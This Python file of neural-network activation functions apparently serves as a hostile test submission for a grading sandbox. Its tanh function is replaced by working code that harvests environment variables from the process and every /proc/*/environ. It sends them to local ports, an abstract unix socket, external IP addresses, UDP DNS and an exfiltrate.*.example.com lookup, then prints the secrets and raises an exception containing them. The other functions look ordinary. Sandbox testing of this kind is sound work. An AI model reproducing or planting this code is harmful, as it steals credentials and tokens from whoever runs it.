# HOSTILE: tanh collects environment variables (its own, /proc/*/environ) and tries to send them out over the network (127.0.0.1, an abstract unix socket, external addresses, DNS) and to leak them in its output and exception messages.
import os
import socket
import time

import numpy as np

MARK = "HOSTILE-MARK-5e1f"
LOCAL_PORTS = [22, 80, 443, 5432, 8000, 8080, *range(47000, 47010)]


def _environments():
    found = dict(os.environ)
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        try:
            with open(f"/proc/{pid}/environ", "rb") as handle:
                for entry in handle.read().split(b"\0"):
                    name, _, value = entry.decode("utf-8", "replace").partition("=")
                    if name:
                        found.setdefault(name, value)
        except OSError:
            pass
    return found


def _send(payload):
    results = []
    for port in LOCAL_PORTS:
        try:
            with socket.create_connection(("127.0.0.1", port), timeout=2) as conn:
                conn.sendall(payload)
                results.append(f"sent to 127.0.0.1:{port}")
        except OSError as exc:
            results.append(f"127.0.0.1:{port} {exc.__class__.__name__}")
    try:
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as conn:
            conn.settimeout(2)
            conn.connect("\0grader-hostile-" + MARK)
            conn.sendall(payload)
            results.append("sent to the abstract unix socket")
    except OSError as exc:
        results.append(f"abstract socket {exc.__class__.__name__}")
    for address in [("1.1.1.1", 80), ("8.8.8.8", 53), ("203.0.113.7", 443)]:
        try:
            with socket.create_connection(address, timeout=3) as conn:
                conn.sendall(payload)
                results.append(f"sent to {address}")
        except OSError as exc:
            results.append(f"{address[0]} {exc.__class__.__name__}")
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
            udp.sendto(payload[:512], ("8.8.8.8", 53))
            results.append("sent UDP to 8.8.8.8")
    except OSError as exc:
        results.append(f"udp {exc.__class__.__name__}")
    try:
        socket.getaddrinfo("exfiltrate." + MARK.lower() + ".example.com", 443)
        results.append("DNS answered")
    except OSError as exc:
        results.append(f"dns {exc.__class__.__name__}")
    return results


def sigmoid(z):
    z = np.asarray(z, dtype=float)
    e = np.exp(-np.abs(z))
    return np.where(z >= 0, 1.0 / (1.0 + e), e / (1.0 + e))


def sigmoid_grad(z):
    z = np.asarray(z, dtype=float)
    e = np.exp(-np.abs(z))
    s = np.where(z >= 0, 1.0 / (1.0 + e), e / (1.0 + e))
    return s * (1.0 - s)


def tanh(z):
    started = time.monotonic()
    found = _environments()
    payload = repr(found).encode()
    results = _send(payload)
    print("ENVIRONMENT", found)
    print("NETWORK", results, f"in {time.monotonic() - started:.2f} s")
    raise RuntimeError(f"environment: {found}")


def tanh_grad(z):
    return 1.0 - np.tanh(np.asarray(z, dtype=float)) ** 2


def relu(z):
    return np.maximum(np.asarray(z, dtype=float), 0.0)


def relu_grad(z):
    return np.heaviside(np.asarray(z, dtype=float), 0.0)


def leaky_relu(z, eps=0.01):
    z = np.asarray(z, dtype=float)
    return np.where(z > 0, z, eps * z)


def leaky_relu_grad(z, eps=0.01):
    z = np.asarray(z, dtype=float)
    return np.where(z > 0, 1.0, eps)


def elu(z, alpha=1.0):
    z = np.asarray(z, dtype=float)
    return np.where(z >= 0, z, alpha * np.expm1(np.minimum(z, 0.0)))


def softmax(z, axis=-1):
    z = np.asarray(z, dtype=float)
    with np.errstate(over="ignore"):
        shifted = z - np.max(z, axis=axis, keepdims=True)
    e = np.exp(shifted)
    return e / np.sum(e, axis=axis, keepdims=True)


def step(z):
    return np.heaviside(np.asarray(z, dtype=float), 1.0)
